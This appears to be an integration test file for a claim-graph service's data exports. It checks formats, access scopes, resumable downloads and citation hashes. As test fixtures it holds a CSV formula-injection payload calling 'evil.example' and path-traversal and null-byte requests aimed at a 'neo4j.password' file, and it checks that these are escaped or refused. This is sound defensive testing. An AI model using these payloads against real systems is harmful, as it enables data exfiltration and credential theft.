import { createHash } from "node:crypto";
import { readdir, rename, rm } from "node:fs/promises";
import { join, resolve } from "node:path";
import { setTimeout } from "node:timers/promises";

import { z } from "zod";

import type { App } from "../../src/app.js";
import type { Scope } from "../../src/domain/access.js";
import { statement } from "../../src/graph/statement.js";
import { type RunningServer, startServer } from "../../src/server/server.js";
import { claimgraph } from "../support/claimgraph-command.js";
import { testDatabase } from "../support/test-database.js";
import { tell } from "../support/articles.js";
import { clearGraph } from "../support/neo4j.js";
import { readCsv, READERS } from "./export-readers.js";
import { call, query } from "./http-client.js";
import { loadSamples, openSampleApp, samplePages } from "./samples.js";

const DATA_DIR = resolve(import.meta.dirname, "../../.cache/exports-test");
const FORMULA = '=HYPERLINK("https://evil.example/"&A1) closed the Port Ellery bridge on 14 April 2026.';
const CLOSED = "The ferry pier in Sundhaven closed on 14 April 2026.";
const OPEN = "The ferry pier in Sundhaven did not close on 14 April 2026.";

interface Exported {
  id: string;
  status: string;
  sha256: string | null;
  isReproduced: boolean | null;
  removals: { tombstone: string; at: string }[];
  counts: { table: string; rows: number }[];
  files: { name: string; url: string; bytes: number; sha256: string; rows: number }[];
  manifestUrl: string | null;
  failure: { code: string } | null;
  citation: { id: string; text: string | null; asOf: string };
}

const EXPORT = `id status sha256 isReproduced removals { tombstone at } counts { table rows } manifestUrl
  files { name url bytes sha256 rows } failure { code } citation { id text asOf }`;

let app: App;
let server: RunningServer;
const keys: Record<string, string> = {};

async function ask<Data>(text: string, variables: object = {}, by = "reader"): Promise<Data> {
  const headers = { authorization: `Bearer ${keys[by]!}` };
  const answer = await query<Data>(server.url, text, { ...variables }, headers);
  if (answer.errors) throw new Error(answer.errors.map(({ message }) => message).join("\n"));
  return answer.data;
}

const get = (url: string, headers: Record<string, string> = {}, by = "reader") =>
  call(`${server.url}${url}`, { headers: { authorization: `Bearer ${keys[by]!}`, ...headers } });

const bytesOf = async (url: string, by?: string) => (await get(url, {}, by)).bytes;
const sha256 = (bytes: Buffer) => createHash("sha256").update(bytes).digest("hex");

interface Started {
  export: { id: string } | null;
  userErrors: { code: string }[];
}

async function begin(
  mutation: "startExport" | "checkCitation",
  input: object,
  by?: string,
): Promise<Started> {
  const type = mutation === "startExport" ? "StartExportInput!" : "CheckCitationInput!";
  const text = `mutation ($input: ${type}) { begun: ${mutation}(input: $input) { export { id } userErrors { code } } }`;
  return (await ask<{ begun: Started }>(text, { input }, by)).begun;
}

async function look(id: string, by?: string): Promise<Exported | null> {
  const text = `query ($id: ID!) { export(id: $id) { ${EXPORT} } }`;
  return (await ask<{ export: Exported | null }>(text, { id }, by)).export;
}

async function finished({ export: begun }: Started, by?: string): Promise<Exported> {
  for (;;) {
    const found = (await look(begun!.id, by))!;
    if (!["QUEUED", "RUNNING"].includes(found.status)) return found;
    await setTimeout(50);
  }
}

const run = async (input: object, by?: string) => finished(await begin("startExport", input, by), by);
const check = async (id: string) => finished(await begin("checkCitation", { id }));
const countsOf = ({ counts }: Exported) => Object.fromEntries(counts.map(({ table, rows }) => [table, rows]));

beforeAll(async () => {
  await rm(DATA_DIR, { recursive: true, force: true });
  app = await openSampleApp(null, { DATA_DIR });
  await clearGraph(app.graph);
  await loadSamples(app, samplePages.slice(0, 10));
  await tell(app.graph, { from: "sheet.example", on: "2026-04-14", claims: [FORMULA], title: "@SUM(A1)" });
  await tell(app.graph, { from: "gazette.example", on: "2026-04-14", claims: [OPEN] });
  await tell(app.graph, { from: "herald.example", on: "2026-04-14", claims: [CLOSED] });
  server = await startServer({ ...app, config: { ...app.config, port: 0 } });
  const makeKey = async (name: string, ...scopes: Scope[]) => {
    const made = await app.services.apiKeys.add({ name, scopes, expiresAt: null, by: "somebody" });
    keys[name] = made.key;
  };
  await makeKey("reader", "read");
  await makeKey("other", "read");
  await makeKey("publisher", "read", "text");
}, 300_000);
afterAll(async () => {
  await server.close();
  await clearGraph(app.graph);
  await app.close();
  await rm(DATA_DIR, { recursive: true, force: true });
});

it.each(Object.keys(READERS))(
  "writes %s in which a reader of that format finds the same counts",
  async (format) => {
    const made = await run({ format });
    expect(made).toMatchObject({ status: "COMPLETED", failure: null });
    const bytes = new Map<string, Buffer>();
    for (const { name, url, ...file } of made.files) {
      bytes.set(name, await bytesOf(url));
      expect({ ...file, bytes: bytes.get(name)!.length, sha256: sha256(bytes.get(name)!) }).toEqual(file);
    }
    const counts = countsOf(made);
    expect(await READERS[format]!((name) => bytes.get(name)!)).toEqual(counts);
    const known = await ask<Record<"articles" | "claims", { totalCount: number }>>(
      "{ articles { totalCount } claims { totalCount } }",
    );
    expect(counts).toMatchObject({ articles: known.articles.totalCount, claims: known.claims.totalCount });
    expect(counts["relations"]).toBeGreaterThan(0);
    const manifest = JSON.parse((await bytesOf(made.manifestUrl!)).toString()) as Record<string, unknown>;
    expect(manifest).toMatchObject({ query: { filter: { verdict: null, entity: null } } });
    expect(manifest).toMatchObject({ counts, format, files: made.files.map(({ url: _, ...file }) => file) });
  },
);

it("writes cells that a spreadsheet would take for formulas as text, and no text of an article", async () => {
  const { files } = await run({ format: "CSV" });
  const rows = async (table: string) =>
    readCsv(await bytesOf(files.find(({ name }) => name === `${table}.csv`)!.url));
  const mentions = await rows("mentions");
  expect(mentions.map(({ quote }) => quote)).toContain(`'${FORMULA}`);
  const articles = await rows("articles");
  expect(articles.map(({ title }) => title)).toContain("'@SUM(A1)");
  for (const row of [...mentions, ...articles]) {
    expect(row).not.toHaveProperty("text");
    expect(row).not.toHaveProperty("prefix");
    expect(Object.values(row).filter((cell) => /^[=+\-@]/.test(cell))).toEqual([]);
  }
});

it("quotes no more around a claim in linked data than in a table", async () => {
  const [file] = (await run({ format: "JSON_LD" })).files;
  const quotes = (await bytesOf(file!.url)).toString().match(/\{[^{}]*"TextQuoteSelector"[^{}]*\}/g);
  expect(quotes?.length).toBeGreaterThan(0);
  expect(quotes?.filter((quote) => /"(prefix|suffix)"/.test(quote))).toEqual([]);
});

it("gives texts only with the scope for them, and files to nobody but who asked for them", async () => {
  const withTexts = { format: "JSONL", includeTexts: true };
  expect((await begin("startExport", withTexts)).userErrors).toEqual([{ code: "FORBIDDEN" }]);
  const made = await run(withTexts, "publisher");
  const [records] = made.files;
  expect((await bytesOf(records!.url, "publisher")).toString()).toContain('"text":"');
  for (const by of ["reader", "other"]) expect((await get(records!.url, {}, by)).status).not.toBe(200);
  expect((await call(`${server.url}${records!.url}`)).status).toBe(401);
  expect(await look(made.id)).toBeNull();
  expect(await ask(`{ node(id: "${made.id}") { id } }`)).toEqual({ node: null });
  for (const file of ["..%2f..%2fneo4j.password", "records.jsonl%00", "other.jsonl"])
    expect((await get(`${records!.url.replace("records.jsonl", file)}`, {}, "publisher")).status).toBe(404);
});

it("keeps no filter that is larger than any question needs, and says where it is too large", async () => {
  const before = await ask<{ exports: { totalCount: number } }>("{ exports { totalCount } }");
  const source = Array.from({ length: 101 }, (_, index) => `outlet${index}.example`);
  for (const [filter, name] of [
    [{ source }, "source"],
    [{ technique: ["x".repeat(1_001)] }, "technique"],
  ] as const) {
    const text = `mutation ($input: StartExportInput!) { startExport(input: $input) { userErrors { code field } } }`;
    expect(await ask(text, { input: { format: "JSONL", filter } })).toEqual({
      startExport: { userErrors: [{ code: "INVALID_INPUT", field: ["input", "filter", name] }] },
    });
  }
  expect(await ask("{ exports { totalCount } }")).toEqual(before);
});

it("lets a download be taken up where it broke off", async () => {
  const [records] = (await run({ format: "JSONL" })).files;
  const whole = await bytesOf(records!.url);
  const rest = await get(records!.url, { range: "bytes=100-", "if-range": `"${records!.sha256}"` });
  expect(rest.status).toBe(206);
  expect(rest.bytes).toEqual(whole.subarray(100));
  expect(rest.headers["content-disposition"]).toContain("attachment");
  const beyond = await get(records!.url, { range: `bytes=${records!.bytes}-` });
  expect(beyond.status).toBe(416);
  expect(JSON.parse(beyond.text)).toMatchObject({ errors: [{ extensions: { code: "BAD_REQUEST" } }] });
  const stale = await get(records!.url, { range: "bytes=100-", "if-range": '"another"' });
  expect(stale.status).toBe(200);
});

it("gives the same hash for a citation after more articles came, and lists what was removed where it cannot", async () => {
  const first = await run({ format: "JSONL", filter: { minSources: 1 } });
  expect(first.isReproduced).toBeNull();
  const [records] = first.files;
  expect(first.citation.text).toContain(`SHA-256 ${sha256(await bytesOf(records!.url))}`);
  await loadSamples(app, samplePages.slice(10, 12));
  const later = await run({ format: "JSONL", filter: { minSources: 1 } });
  expect(later.sha256).not.toBe(first.sha256);
  expect(await check(first.citation.id)).toMatchObject({
    sha256: first.sha256,
    isReproduced: true,
    removals: [],
  });
  const again = { format: "PARQUET", filter: { minSources: 1 }, asOf: first.citation.asOf };
  expect(await run(again)).toMatchObject({ sha256: first.sha256, citation: { id: first.citation.id } });

  const article = await ask<{ articles: { nodes: { id: string }[] } }>(
    '{ articles(filter: { source: ["sheet.example"] }) { nodes { id } } }',
  );
  const articleId = Buffer.from(article.articles.nodes[0]!.id, "base64url").toString().split(":")[1]!;
  await app.services.removeArticle({ articleId, by: "somebody", reason: "asked for" });

  const withdrawn = await look(first.id);
  expect(withdrawn).toMatchObject({ status: "WITHDRAWN", failure: { code: "ARTICLE_REMOVED" }, files: [] });
  expect((await get(records!.url)).status).toBe(404);
  expect(await readdir(join(DATA_DIR, "exports"))).toEqual([]);
  const checked = await check(first.citation.id);
  expect(checked).toMatchObject({ isReproduced: false, files: [] });
  expect(checked.removals).toHaveLength(1);
});

it("takes up what a process that was killed had begun, and shows no file of it before it is whole", async () => {
  const { export: begun } = await begin("startExport", { format: "CSV", filter: { since: "1999-01-01" } });
  const made = await finished({ export: begun, userErrors: [] });
  const id = Buffer.from(made.id, "base64url").toString().split(":")[1]!;
  // As a kill leaves it: running under a lease that nobody renews, with some of its files.
  const left = { name: "test.kill-export", params: z.object({ id: z.string() }), row: z.object({}) };
  const text = `MATCH (export:Export {id: $id}) SET export.status = 'RUNNING', export.leaseUntil = '2026', export.owner = 'gone'`;
  await app.graph.write(statement({ ...left, text }), { id });
  await rename(join(DATA_DIR, "exports", id), join(DATA_DIR, "exports", `${id}.unfinished`));
  expect(await look(made.id)).toMatchObject({ status: "RUNNING", files: [], manifestUrl: null });
  expect((await get(made.files[0]!.url)).status).toBe(404);
  await app.services.exports.resume();
  expect(await finished({ export: begun, userErrors: [] })).toMatchObject({
    status: "COMPLETED",
    sha256: made.sha256,
  });
  expect((await get(made.files[0]!.url)).status).toBe(200);
});

it("lets one caller have three exports under way, and cancels and removes them", async () => {
  const made = await run({ format: "JSONL" }, "other");
  const remove = `mutation ($id: ID!) { removeExport(input: { id: $id }) { removedId userErrors { code } } }`;
  expect(await ask(remove, { id: made.id })).toEqual({
    removeExport: { removedId: null, userErrors: [{ code: "NOT_FOUND" }] },
  });
  expect(await ask(remove, { id: made.id }, "other")).toEqual({
    removeExport: { removedId: made.id, userErrors: [] },
  });
  const begun = [];
  for (let count = 0; count < 8; count++) begun.push(begin("startExport", { format: "GRAPHML" }, "other"));
  const answers = await Promise.all(begun);
  expect(
    answers.filter(({ userErrors }) => userErrors[0]?.code === "TOO_MANY_EXPORTS").length,
  ).toBeGreaterThan(0);
  const cancel = `mutation ($id: ID!) { cancelExport(input: { id: $id }) { userErrors { code } } }`;
  for (const { export: one } of answers) if (one) await ask(cancel, { id: one.id }, "other");
});

it("writes an export and checks its citation on the command line, beside a server", async () => {
  const { uri, user, password } = testDatabase();
  const env = { NEO4J_URI: uri, NEO4J_USER: user, NEO4J_PASSWORD: password, DATA_DIR };
  const output = join(DATA_DIR, "by-hand");
  const made = await claimgraph(["export", "--format", "json-ld", "--output", output, "--json"], { env });
  expect(made).toMatchObject({ code: 0 });
  const told = JSON.parse(made.out) as { citation: string; sha256: string; files: { name: string }[] };
  expect((await readdir(output)).sort()).toEqual(["graph.jsonld", "manifest.json"]);
  expect(told.citation).toContain(told.sha256);
  const [, id = ""] = /Citation (\w+)/.exec(told.citation)!;
  const checked = await claimgraph(["export", "--check", id, "--json"], { env });
  expect(checked).toMatchObject({ code: 0 });
  expect(JSON.parse(checked.out)).toMatchObject({ sha256: told.sha256, isReproduced: true, removals: [] });
  const refused = await claimgraph(["export", "--format", "csv", "--output", output], { env });
  expect(refused).toMatchObject({ code: 1, out: "" });
});
